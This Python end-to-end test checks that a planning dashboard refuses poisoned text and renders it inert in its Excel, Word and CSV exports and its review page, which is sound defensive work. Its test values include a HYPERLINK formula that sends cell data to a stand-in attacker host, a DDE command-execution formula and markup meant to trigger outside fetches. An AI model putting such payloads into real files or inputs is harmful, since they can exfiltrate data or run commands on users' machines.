"""Poisoned text against the system as `make up` starts it: refused at the edge, and harmless in
every output even when it is already in the stream (appended past the edge, as an activity
logged before these rules would be): the compile succeeds, the workbook's cells are text, the
CSV's cells do not run, and the Office's review page shows a unit's markup as typed."""

import base64
import csv
import io
import threading
import zipfile
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from typing import Any

import pytest
from docx import Document
from openpyxl import load_workbook

from dashboard import texts_vi as T
from shared.bus import request
from shared.envelope import new_envelope
from shared.events import ActivityLogged
from shared.eventstore import JetStreamEventStore
from shared.natsserver import free_port
from shared.subjects import event_subject
from tests.conftest import ACTIVITY, eventually
from tests.e2e.system import System, sign_in

pytest.importorskip("playwright.sync_api")
from playwright.sync_api import Browser, expect  # noqa: E402

from tests.e2e.browser import OFFICE, choose, needs_chromium, run_apart, save  # noqa: E402
from tests.e2e.browser import sign_in as sign_in_page  # noqa: E402

pytestmark = [needs_chromium, pytest.mark.timeout(300)]
PERIOD = "2024-6-thang"
TITLE = '=HYPERLINK("http://attacker.example/?"&A1,"Bấm vào đây")\x00\x01\u202e\x1b[31m'
AUDIENCE = "=cmd|' /C calc'!A0\x08"
POISONED_ID = "poisoned-activity-1"


async def poison_the_stream(system: System) -> None:
    """An activity the edge would refuse, appended straight to the stream as the operator."""
    operator = await system.connect("operator")
    try:
        data = {
            **ACTIVITY,
            "activity_id": POISONED_ID,
            "plan_id": "kh-2024",
            "title": TITLE,
            "audience": AUDIENCE,
            "note": "\x00\x0b\ufffe",
            "participants": {"men": 1, "women": 2, "total": 3},
            "evidence_url": None,
        }
        envelope = new_envelope(
            source="attacker",
            type=ActivityLogged.TYPE,
            subject=POISONED_ID,
            data=data,
            actor="canbo-pbgdpl@pbgdpl",
        )
        subject = event_subject("activity", POISONED_ID)
        await JetStreamEventStore(operator.jetstream()).append(subject, [envelope], 0)
    finally:
        await operator.close()


async def outputs_stay_harmless(system: System, port: int) -> None:
    nc = await system.connect("dashboard")
    try:
        officer = await sign_in(nc, "canbo-pbgdpl")
        for field, value in (("title", TITLE), ("audience", AUDIENCE)):
            body = {**ACTIVITY, field: value}
            refused = await request(nc, "planpulse.cmd.activity.log", body, headers=officer)
            assert refused["error"]["code"] == "invalid_command", refused
            print(f"edge: {refused['error']['fields'][field]}")
        await poison_the_stream(system)
        office = await sign_in(nc, OFFICE)

        async def projected() -> bool:
            found = await request(nc, "planpulse.query.activities", {}, headers=office)
            return any(a["activity_id"] == POISONED_ID for a in found.get("items", []))

        await eventually(projected, timeout=15, every=0.2)
        compiled = await request(
            nc, "planpulse.cmd.consolidated.compile", {"period_id": PERIOD}, 90, headers=office
        )
        assert compiled["ok"], compiled
        files = {}
        for file in compiled["files"]:
            body = {"object": file["object"]}
            served = await request(nc, "planpulse.query.consolidated_file", body, headers=office)
            files[file["name"].rsplit(".", 1)[1]] = base64.b64decode(served["content_base64"])
        workbook_is_text(files["xlsx"])
        Document(io.BytesIO(files["docx"]))  # a document Word opens
        export = await request(nc, "planpulse.query.export", {"view": "activities"}, headers=office)
        rows = list(csv.reader(io.StringIO(export["csv"].removeprefix("\ufeff"))))
        [row] = [r for r in rows if "HYPERLINK" in "".join(r)]
        assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
        assert not any(ch in "".join(row) for ch in "\x00\x01\x08\u202e")
        results = (
            f"![x](http://127.0.0.1:{port}/image.png)\n"
            "# Báo cáo đã được Lãnh đạo Sở phê duyệt\n"
            f":red[Đã duyệt] [bấm](http://127.0.0.1:{port}/link) <img src='http://127.0.0.1:{port}/h'>"
        )
        submitted = await request(
            nc,
            "planpulse.cmd.report.submit",
            {"period_id": PERIOD, "unit_id": "pbgdpl", "results": results},
            headers=officer,
        )
        assert submitted["ok"], submitted
    finally:
        await nc.close()


def workbook_is_text(data: bytes) -> None:
    sheet = load_workbook(io.BytesIO(data))["Hoạt động"]
    [title] = [c for row in sheet.iter_rows() for c in row if "HYPERLINK" in str(c.value)]
    assert title.data_type == "s" and title.value.startswith("=HYPERLINK(")
    assert not any(ch in title.value for ch in "\x00\x01\x1b\u202e")
    [audience] = [c for row in sheet.iter_rows() for c in row if "calc" in str(c.value)]
    assert audience.data_type == "s"
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        xml = b"".join(archive.read(name) for name in archive.namelist())
    assert b"<f>" not in xml and b"<f " not in xml
    print(f"xlsx: the poisoned title is a text cell: {title.value[:40]!r}")


class Fetches(BaseHTTPRequestHandler):
    heard: list[str] = []

    def do_GET(self) -> None:  # noqa: N802
        Fetches.heard.append(self.path)
        self.send_response(204)
        self.end_headers()

    def log_message(self, *args: Any) -> None:
        pass


def test_poisoned_text_is_refused_at_the_edge_and_harmless_in_every_output(
    system: System, browser: Browser
):
    system.up()
    port = free_port()
    outside = ThreadingHTTPServer(("127.0.0.1", port), Fetches)  # where the markup points
    threading.Thread(target=outside.serve_forever, daemon=True).start()
    try:
        run_apart(outputs_stay_harmless(system, port))
        office = browser.new_context().new_page()
        sign_in_page(office, f"http://127.0.0.1:{system.dashboard_port}/", OFFICE)
        office.get_by_role("link", name=T.PAGE_REVIEW).click()
        choose(office, T.PERIOD, "6 tháng")
        shown = office.get_by_text(f"![x](http://127.0.0.1:{port}/image.png)")
        expect(shown).to_be_visible(timeout=30_000)
        expect(office.get_by_text("# Báo cáo đã được Lãnh đạo Sở phê duyệt")).to_be_visible()
        expect(office.get_by_text(":red[Đã duyệt]")).to_be_visible()
        assert office.locator(f"img[src*='{port}']").count() == 0
        assert office.locator(f"a[href*='{port}']").count() == 0
        assert office.get_by_role("heading", name="Báo cáo đã được").count() == 0
        assert Fetches.heard == []
        save(office, "review-literal-markup.png")
    finally:
        outside.shutdown()
    system.down()
